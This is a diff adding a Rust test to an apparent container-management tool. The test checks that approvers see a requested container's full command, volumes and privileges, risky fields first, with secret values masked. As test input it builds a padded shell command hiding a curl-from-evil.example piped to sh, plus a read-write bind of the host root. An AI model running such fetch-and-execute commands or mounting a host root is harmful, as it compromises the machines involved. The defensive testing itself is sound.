@@ -1079,3 +1079,77 @@ async fn a_pending_registry_password_is_not_in_the_database() {
     assert!(!v.to_string().contains(password), "{v}");
     assert!(v.to_string().contains("registry.example/app:1"), "{v}");
 }
+
+/// Issue 12.3: approvers saw what the requester chose to show: `API_TOKEN=***` inside a command
+/// hid the payload, and the 400-character summary cut off a read-write bind of `/`. The API and
+/// `tomo approvals show ID` give the whole normalised request, risky parts first, uncut; only
+/// values of secret-looking keys are hidden, each marked.
+#[tokio::test]
+async fn approvers_see_the_whole_request_risky_parts_first() {
+    let f = Fleet::start().await;
+    let host = offline_host(&f, "review-host").await;
+    let (asker, _) = mint(&f, "assistant", Level::Admin, asks).await;
+    let payload = format!(
+        "{} API_TOKEN=curl-evil.example/x.sh | sh",
+        "echo hello; ".repeat(40)
+    );
+    let body = json!({
+        "image": "tomo-test/busybox:latest",
+        "name": "tomo-test-review",
+        "labels": {"team": "web"},
+        "command": ["sh", "-c", payload],
+        "env": {"DB_PASSWORD": "pw-123456", "MODE": "prod"},
+        "volumes": [{"source": "/", "target": "/host"}],
+    });
+    let (s, v) = f
+        .api_as(
+            &asker,
+            Method::POST,
+            &format!("/hosts/{host}/containers"),
+            Some(body),
+        )
+        .await;
+    let id = pending_id(s, &v);
+
+    let (s, v) = show(&f, &f.token, &id).await;
+    assert_eq!(s, StatusCode::OK, "{v}");
+    let request = v["request"].as_array().expect("request fields").clone();
+    let field = |name: &str| {
+        request
+            .iter()
+            .position(|r| r["field"] == name)
+            .unwrap_or_else(|| panic!("{name} missing: {v}"))
+    };
+    assert_eq!(request[0]["field"], "image", "{v}");
+    assert_eq!(
+        request[field("command")]["value"],
+        json!(["sh", "-c", payload]),
+        "uncut: {v}"
+    );
+    assert_eq!(
+        request[field("volumes")]["value"],
+        json!([{"source": "/", "target": "/host", "read_only": false}]),
+        "normalised, read-write shown: {v}"
+    );
+    assert_eq!(request[field("privileged")]["value"], json!(false), "{v}");
+    for risky in ["command", "volumes", "privileged"] {
+        assert!(field(risky) < field("labels"), "{risky} before labels: {v}");
+        assert_eq!(request[field(risky)]["risky"], true, "{v}");
+    }
+    let env = &request[field("env")]["value"];
+    assert_eq!(env["MODE"], "prod", "{v}");
+    assert!(!v.to_string().contains("pw-123456"), "{v}");
+    let hidden = env["DB_PASSWORD"].as_str().unwrap_or_default();
+    assert!(hidden.contains("hidden"), "marked: {v}");
+    assert_eq!(v["hidden"], json!(["env.DB_PASSWORD"]), "{v}");
+
+    // The CLI shows the same, whole.
+    let (ok, out, all) = tomo_cli(&f, &f.token, &["approvals", "show", &id]).await;
+    assert!(ok, "{all}");
+    assert!(out.contains(&payload), "{out}");
+    assert!(out.contains("\"source\": \"/\""), "{out}");
+    assert!(!out.contains("pw-123456"), "{out}");
+    let image = out.find("image").expect("image");
+    let labels = out.find("labels").expect("labels");
+    assert!(image < labels, "risky first: {out}");
+}
